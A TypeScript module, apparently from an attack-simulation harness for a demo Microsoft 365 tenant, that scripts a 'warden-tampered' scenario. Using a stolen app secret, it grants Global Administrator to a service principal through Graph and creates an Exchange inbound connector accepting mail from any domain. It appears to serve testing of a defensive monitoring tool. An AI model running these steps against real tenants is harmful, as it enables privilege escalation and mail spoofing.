import { GLOBAL_ADMINISTRATOR } from '../../m365/directory-roles.js';
import { DEMO_READER_APP_ID } from '../demo-tenant-contract.js';
import type { AttackStep } from './attack-step.js';
import { type DemoTenantClient, readTextProperty } from './demo-tenant-client.js';
import { LIVE_ATTACK } from './live-attack-profile.js';

const SCOPES = {
  graph: 'https://graph.microsoft.com/.default',
  exchange: 'https://outlook.office365.com/.default',
} as const;

/** `warden-tampered`: somebody has the secret of Tenant Warden's responder, and acts with it. */
export function buildWardenTamperingSteps(): readonly AttackStep[] {
  const { ip } = LIVE_ATTACK;
  const asResponder = (client: DemoTenantClient, service: keyof typeof SCOPES) => {
    const { clientId, clientSecret } = client.demo.credentials.responder;
    return client.asApp(clientId, clientSecret, SCOPES[service], ip);
  };
  return [
    {
      words: `With the secret of Tenant Warden's responder, from ${ip}: its reader becomes Global Administrator.`,
      play: async (client) => {
        const token = await asResponder(client, 'graph');
        const reader = await client.graph(token, 'GET', `/servicePrincipals(appId='${DEMO_READER_APP_ID}')`);
        await client.graph(token, 'POST', '/roleManagement/directory/roleAssignments', {
          principalId: readTextProperty(reader, 'id'),
          roleDefinitionId: GLOBAL_ADMINISTRATOR,
          directoryScopeId: '/',
        });
      },
    },
    {
      words: 'With the same secret: an inbound connector that takes mail from anywhere.',
      play: async (client, spoils) => {
        spoils.connectorName = 'relay';
        await client.exchange(await asResponder(client, 'exchange'), 'New-InboundConnector', {
          Name: spoils.connectorName,
          ConnectorType: 'Partner',
          SenderDomains: ['smtp:*;1'],
          SenderIPAddresses: [ip],
        });
      },
    },
  ];
}
